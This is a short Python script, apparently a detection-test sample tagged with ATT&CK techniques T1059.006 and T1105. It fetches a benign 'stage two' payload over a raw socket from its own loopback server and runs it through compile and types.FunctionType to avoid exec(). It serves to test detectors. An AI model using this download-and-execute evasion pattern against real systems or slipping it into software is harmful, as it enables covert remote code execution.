# technique: T1059.006 T1105
"""Download over a raw socket, compile, wrap in types.FunctionType and call (T1059.006, T1105).

No HTTP library on the client side: the script speaks HTTP/1.0 by hand
over socket.create_connection and recv. The body is compiled with
compile(), and the resulting code object is not exec'd but turned into a
function with types.FunctionType and called, so no exec() of text
follows the compile.

A good detector raises a high alert: bytes received from a socket become a
code object that runs (compile, then function.__new__ and a call).
"""
import http.server
import socket
import threading
import types

def serve(files):
    """Our own HTTP server on 127.0.0.1 (port 0) in a thread, serving {path: bytes}."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "http://127.0.0.1:%d" % server.server_address[1], server

base, server = serve({"/c": b"import os\nmarker = os.path.join(os.path.expanduser('~'), '.stage2')\nwith open(marker, 'w') as f:\n    f.write(str(os.getpid()))\nprint('stage two ran in', os.getpid())\n"})
host, port = base[len("http://"):].split(":")
with socket.create_connection((host, int(port)), timeout=5) as conn:
    conn.sendall(b"GET /c HTTP/1.0\r\nHost: x\r\n\r\n")
    response = b""
    while True:
        chunk = conn.recv(4096)
        if not chunk:
            break
        response += chunk
body = response.split(b"\r\n\r\n", 1)[1]
code = compile(body, "<update>", "exec")
types.FunctionType(code, {"__builtins__": __builtins__})()
server.shutdown()
